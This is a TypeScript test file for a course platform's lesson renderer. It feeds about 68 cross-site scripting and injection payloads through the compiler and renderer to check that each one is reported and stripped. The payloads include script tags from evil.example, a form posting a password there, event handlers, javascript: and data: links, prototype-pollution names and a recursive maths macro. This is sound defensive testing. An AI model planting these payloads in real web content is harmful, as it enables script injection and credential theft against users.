import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { interpretCourse } from "#lib/content/interpret-course.ts";
import type { ProseTree } from "#lib/content/prose-tree.ts";
import { loadEngines } from "#server/courses/engines.ts";
import { Prose } from "./render-lesson.tsx";

const engines = await loadEngines();
const course = interpretCourse(new Map(), engines, "d".repeat(64));

/** What must never come out, whatever goes in. */
const dangerous =
  /<(script|iframe|object|embed|meta|link|base|form|input|svg|style|math|animate|foreignobject|video|img)\b|\son\w+=|javascript:|vbscript:|data:|srcdoc|<!--|pwned\(/i;

/**
 * Things that content tries. Each must be reported by the checker, and the page must show nothing of it even if it was
 * published without a check.
 */
const attacks: readonly [what: string, source: string][] = [
  ["script", "<script>pwned()</script>"],
  ["script with a source", '<script src="https://evil.example/x.js"></script>'],
  ["script in capitals", "<SCRIPT>pwned()</SCRIPT>"],
  ["iframe", '<iframe src="https://evil.example"></iframe>'],
  ["iframe with a document", '<iframe srcdoc="&lt;script&gt;pwned()&lt;/script&gt;" />'],
  ["object", '<object data="https://evil.example/x.swf"></object>'],
  ["embed", '<embed src="https://evil.example/x.swf" />'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example" />'],
  ["base", '<base href="https://evil.example/" />'],
  ["style sheet", '<link rel="stylesheet" href="https://evil.example/x.css" />'],
  ["style element", "<style>{`body{background:url(https://evil.example)}`}</style>"],
  ["form", '<form action="https://evil.example"><input name="password" /></form>'],
  ["svg with script", "<svg><script>pwned()</script></svg>"],
  ["svg animation", '<svg><animate onbegin="pwned()" attributeName="x" /></svg>'],
  ["raw image with a handler", '<img src="x" onerror="pwned()" />'],
  ["handler on an allowed element", '<details ontoggle="pwned()">a</details>'],
  ["handler in camel case", '<kbd onClick="pwned()">a</kbd>'],
  ["handler as an expression", "<kbd onClick={() => pwned()}>a</kbd>"],
  ["handler on a component", '<Callout kind="note" onClick={pwned}>a</Callout>'],
  ["javascript link", "[a](javascript:pwned())"],
  ["javascript link in capitals", "[a](JaVaScRiPt:pwned())"],
  ["javascript link with an entity", "[a](javascript&#58;pwned())"],
  ["javascript link with a tab", "[a](<java\tscript:pwned()>)"],
  ["javascript link by reference", "[a][b]\n\n[b]: javascript:pwned()"],
  ["unused javascript definition", "[b]: javascript:pwned()"],
  ["javascript autolink", "<a href='javascript:pwned()'>a</a>"],
  ["vbscript link", "[a](vbscript:pwned())"],
  ["data link", "[a](data:text/html,<script>pwned()</script>)"],
  ["link with a scheme of its own", "[a](//evil.example)"],
  ["data image", "![a](data:image/svg+xml,<svg/onload=pwned()>)"],
  ["remote image", "![a](https://evil.example/pixel.png)"],
  ["javascript image", "![a](javascript:pwned())"],
  ["figure from elsewhere", '<Figure src="https://evil.example/pixel.png" alt="a" />'],
  ["figure from a data address", '<Figure src="data:image/png;base64,AAAA" alt="a" />'],
  ["expression", "{pwned()}"],
  ["expression in a line", "a {globalThis.process.exit()} b"],
  ["constructor chain", "{(() => {}).constructor('pwned()')()}"],
  ["template literal with code", "<Callout kind={`${pwned()}`}>a</Callout>"],
  ["function as a prop", "<Callout kind={() => 'note'}>a</Callout>"],
  ["object as a prop", "<Callout kind={{ toString: pwned }}>a</Callout>"],
  ["style expression", "<kbd style={{ backgroundImage: 'url(https://evil.example)' }}>a</kbd>"],
  ["style text", '<kbd style="background:url(https://evil.example)">a</kbd>'],
  ["spread", "<Callout {...pwned()}>a</Callout>"],
  [
    "dangerouslySetInnerHTML",
    '<Callout kind="note" dangerouslySetInnerHTML={{ __html: "<script>" }}>a</Callout>',
  ],
  ["html passed as a prop", '<CodeBlock language="python" html="<script>pwned()</script>" />'],
  ["own component of the interpreter", '<Maths html="<script>pwned()</script>" />'],
  ["import", 'import fs from "node:fs"'],
  ["dynamic import", '{import("node:fs")}'],
  ["export", "export const pwned = () => 1"],
  ["html comment", "<!-- pwned() -->"],
  ["html declaration", "<!DOCTYPE html>"],
  ["unknown component", "<Pwned />"],
  ["member component", "<React.Fragment>a</React.Fragment>"],
  ["namespaced element", "<xlink:href>a</xlink:href>"],
  ["component named constructor", "<constructor />"],
  ["component named __proto__", "<__proto__ />"],
  ["component named toString", "<toString />"],
  ["prop named __proto__", '<Callout kind="note" __proto__="x">a</Callout>'],
  ["prop named constructor", '<Callout kind="note" constructor="x">a</Callout>'],
  ["prop named ref", '<Callout kind="note" ref="x">a</Callout>'],
  ["prop named key and children", '<Callout kind="note" children="x">a</Callout>'],
  ["custom element", '<x-pwned onclick="pwned()">a</x-pwned>'],
  ["fragment", "<>a</>"],
  ["maths with a link", "$\\href{javascript:pwned()}{a}$"],
  ["maths with attributes", "$\\htmlData{onclick=pwned()}{a}$"],
  ["maths with an image", "$\\includegraphics{https://evil.example/x.png}$"],
  ["maths bomb", "$\\def\\a{\\a\\a}\\a$"],
];

describe.each(attacks)("%s", (_what, source) => {
  const prose = course.compile(source, { path: "modules/a/b.mdx", kind: "lesson", idPrefix: "" });

  test("is reported", () => {
    expect(prose.problems.filter(({ severity }) => severity === "error")).not.toEqual([]);
  });

  test("is not shown", () => {
    // What is left may hold the text of it, escaped, but nothing that a browser would act on.
    const html = renderToStaticMarkup(<Prose tree={prose.tree} />);
    expect(html.replaceAll(/>[^<]*/g, ">")).not.toMatch(dangerous);
    expect(html).not.toContain("evil.example/pixel");
  });
});

test("every attack was tried", () => {
  expect(attacks.length).toBeGreaterThan(60);
});

describe("a tree that no interpreter made", () => {
  const element = (tagName: string, properties: Record<string, unknown>, text = "x") => ({
    type: "element",
    tagName,
    properties,
    children: [{ type: "text", value: text }],
  });
  const show = (...children: unknown[]) =>
    renderToStaticMarkup(<Prose tree={{ type: "root", children } as ProseTree} />);
  const empty = '<div class="prose"></div>';

  test.each(["script", "iframe", "style", "svg", "img", "input", "constructor", "__proto__"])(
    "an element %s is left out",
    (name) => expect(show(element(name, {}))).toBe(empty),
  );

  test.each(["raw", "html", "mdxJsxFlowElement", "mdxFlowExpression", "mdxjsEsm", "comment"])(
    "a node of the type %s is left out",
    (type) =>
      expect(show({ type, value: "<script>pwned()</script>", name: "script", children: [] })).toBe(empty),
  );

  test("properties outside the list are left out", () => {
    const html = show(
      element("p", { onClick: "pwned()", style: "x", dangerouslySetInnerHTML: { __html: "y" }, ref: "z" }),
    );
    expect(html).toBe('<div class="prose"><p>x</p></div>');
  });

  test.each(["javascript:pwned()", " javascript:pwned()", "data:text/html,x", "//evil.example", "/account"])(
    "the address %j is left out",
    (href) => expect(show(element("a", { href }))).toBe('<div class="prose"><a>x</a></div>'),
  );

  test.each(["Pwned", "constructor", "__proto__", "hasOwnProperty"])("a component %s is left out", (name) =>
    expect(show({ type: "component", name, props: {}, children: [] })).toBe(empty),
  );
});
